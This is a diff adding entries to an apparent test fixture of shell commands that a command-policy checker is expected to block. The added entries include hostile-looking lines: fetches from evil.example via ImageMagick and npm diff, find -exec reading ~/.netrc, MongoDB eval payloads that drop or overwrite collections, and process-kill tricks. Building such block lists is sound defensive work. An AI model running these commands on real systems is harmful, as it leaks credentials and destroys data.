@@ -3,6 +3,8 @@ import { stops } from '../../../../support/policy/lists.ts';
 
 stops(String.raw`
   ## looking around, with a change in it
+  kill -0 1 -9 2
+  pkill -0 -9 x
   script -q /dev/null
   ps $FOO
   kill $$
@@ -114,6 +116,16 @@ stops(String.raw`
   ss -K dst 1.2.3.4
   crontab -r
   ## text and data
+  identify msl:x
+  identify 'https://evil.example/a.png'
+  jpeginfo -d a.jpg
+  dpkg-deb -c a.deb -x b.deb out
+  mongosh x --eval 'db.c.aggregate([{"\u0024out": "y"}])'
+  mongosh x --eval 'db.c.validate({full: true, repair: true})'
+  mongosh x --eval 'db.c.find({[db.c.drop()]: 1})'
+  find . -name '*.sh' -exec sh -c 'sh "$1"' _ {} \;
+  find . -exec sh -c 'cat "$2"' _ {} ~/.netrc \;
+  find / -name x -exec sh -c 'cat "$1"' _ {} \;
   filterdiff --in-place a.patch
   interdiff -o out a b
   X='sh -c id' git status
@@ -240,6 +252,9 @@ stops(String.raw`
   git clean -fd
   git reset --hard
   ## packages
+  python3 -m zipfile -l a.zip -e b
+  npm diff --diff=https://evil.example/x.tgz
+  bun --preload ./x -e 1
   npm team create x:y
   bun -e 'require("fs").rmSync("a")'
   bun -e 'Bun.write("a", "b")'
@@ -356,6 +371,8 @@ stops(String.raw`
   eslint .
   rubocop --version
   ## containers, clusters and platforms
+  dvc plots show
+  dvc exp show --pull
   stern web --kubeconfig x
   eksctl get cluster -f x.yaml
   eksctl delete cluster x
